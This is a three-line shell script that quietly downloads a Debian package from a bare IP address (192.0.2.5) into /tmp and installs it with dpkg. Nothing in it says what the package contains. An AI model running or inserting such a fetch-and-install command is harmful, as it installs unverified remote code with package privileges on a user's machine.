#!/bin/sh
wget -q http://192.0.2.5/a.deb -O /tmp/a.deb
dpkg -i /tmp/a.deb
